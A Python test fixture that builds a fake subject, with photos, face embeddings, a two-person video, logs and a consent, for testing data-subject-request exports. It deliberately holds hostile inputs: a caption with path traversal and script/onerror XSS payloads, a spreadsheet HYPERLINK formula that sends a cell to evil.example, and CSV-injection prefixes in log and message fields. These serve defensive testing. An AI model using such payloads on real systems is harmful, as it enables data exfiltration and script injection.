"""A subject for export tests: own photos (one with a hostile caption), a photo someone else uploaded of them, face
embeddings (theirs and another person's), a two-person video with the other person's name tag, logs, a consent."""

from __future__ import annotations

import json
import math
import random
import struct
from dataclasses import dataclass
from datetime import timedelta

from dsr import vault, workflow
from dsr.models import Case, CaseMessage, DataItem, Holding, Subject
from dsr.roles import Role, create_staff
from tests import factories

T0 = factories.T0
HOSTILE_CAPTION = ('../../../etc/passwd <script>document.title="PWNED"</script>'
                   '<img src=x onerror="document.title=\'PWNED\'">')
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


def embedding_bytes(seed: int, dims: int = 512) -> bytes:
    rnd = random.Random(seed)
    vec = [rnd.gauss(0, 1) for _ in range(dims)]
    norm = math.sqrt(sum(v * v for v in vec))
    return struct.pack(f"<{dims}f", *(v / norm for v in vec))


@dataclass
class World:
    ana: Subject
    ben: Subject
    cleo: Subject
    ana_photo: DataItem
    ana_photo2: DataItem
    cleo_photo_of_ana: DataItem
    ana_embedding: DataItem
    ben_embedding: DataItem
    video: DataItem
    ip_log: DataItem
    case: Case


def store(category, purpose, holders, content, content_type, *, now, derived_from=(), attributes=None,
          source="platform"):
    return vault.store_item(vault.NewItem(category=category, purpose=purpose, holders=holders, content=content,
                                          content_type=content_type, derived_from=list(derived_from),
                                          attributes=attributes or {}, source=source), actor="test", now=now)


def build(regimes=("eu_gdpr",), kind="access", *, verified=True, tag: str = "") -> World:
    """``tag`` keeps identifiers apart when a test builds two worlds."""
    ana = factories.subject(f"ana.export{tag}@example.com", account_id=f"acct-ana-1001{tag}")
    ben = factories.subject(f"ben.other{tag}@example.com", account_id=f"acct-ben-2002{tag}")
    cleo = factories.subject(f"cleo.uploader{tag}@example.com", account_id=f"acct-cleo-3003{tag}")
    now = T0 + timedelta(hours=1)
    own = factories.jpeg_bytes(factories.noise_image(320, 240, seed=11))
    ana_photo = store("photo", "photo_generation", [(ana, Holding.Role.OWNER)], own, "image/jpeg", now=now,
                      attributes={"width": 320, "height": 240, "caption": HOSTILE_CAPTION}, source="upload")
    ana_photo2 = store("photo", "photo_generation", [(ana, Holding.Role.OWNER)],
                       factories.png_bytes(factories.noise_image(64, 48, seed=12)), "image/png",
                       now=now + timedelta(minutes=1), attributes={"caption": FORMULA})
    ben_photo = store("photo", "photo_generation", [(ben, Holding.Role.OWNER)],
                      factories.jpeg_bytes(factories.noise_image(320, 240, seed=21)), "image/jpeg", now=now)
    cleo_photo_of_ana = store(
        "photo", "photo_generation", [(cleo, Holding.Role.OWNER), (ana, Holding.Role.DEPICTED)],
        factories.jpeg_bytes(factories.noise_image(200, 150, seed=31)), "image/jpeg", now=now + timedelta(minutes=2),
        attributes={"uploader": cleo.account_id, "note": f"shared by {cleo.email}"})
    ana_embedding = store("face_embedding", "face_matching", [], embedding_bytes(1), "application/octet-stream",
                          now=now + timedelta(minutes=3), derived_from=[ana_photo],
                          attributes={"model": "facenet-512", "dims": 512})
    ben_embedding = store("face_embedding", "face_matching", [], embedding_bytes(2), "application/octet-stream",
                          now=now + timedelta(minutes=3), derived_from=[ben_photo],
                          attributes={"model": "facenet-512", "dims": 512})
    video = store("generated_video", "photo_generation", [], b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 64,
                  "video/mp4", now=now + timedelta(minutes=4),
                  derived_from=[ana_photo, ben_photo, ana_embedding, ben_embedding],
                  attributes={"template": "kiss", "frames": 12,
                              "people": [{"name": "Ben Otherperson", "account_id": ben.account_id},
                                         {"name": "Ana", "subject": str(ana.pk)}]})
    ip_log = store("ip_log", "security", [(ana, Holding.Role.OWNER)],
                   json.dumps({"ip": "203.0.113.9", "event": "-upload", "agent": "@evil", "note": "+1"}).encode(),
                   "application/json", now=now + timedelta(minutes=5))
    store("upload_metadata", "service_delivery", [(ana, Holding.Role.OWNER)],
          b'{"app_version": "4.2.0", "format": "JPEG"}', "application/json", now=now + timedelta(minutes=5))
    vault.record_consent(ana, purpose="photo_generation", granted_at=T0, actor="test", now=T0)
    case, _ = workflow.submit_case(kind=kind, regimes=list(regimes), subject=ana, received_at=T0 + timedelta(days=1),
                                   actor="test", now=T0 + timedelta(days=1), details="What do you hold about me?")
    CaseMessage.objects.create(case=case, from_subject=False, author="staff:1", created_at=T0 + timedelta(days=1),
                               body="Which account is this about?")
    CaseMessage.objects.create(case=case, from_subject=True, author="subject", created_at=T0 + timedelta(days=1),
                               body="=The one with my holiday photos")
    if verified:
        operator = create_staff(f"export-operator{tag}", "pw-for-tests-only", Role.OPERATOR)
        case = workflow.verify_identity(case, method="account_reauth", actor=operator, now=T0 + timedelta(days=1))
    return World(ana, ben, cleo, ana_photo, ana_photo2, cleo_photo_of_ana, ana_embedding, ben_embedding, video,
                 ip_log, case)
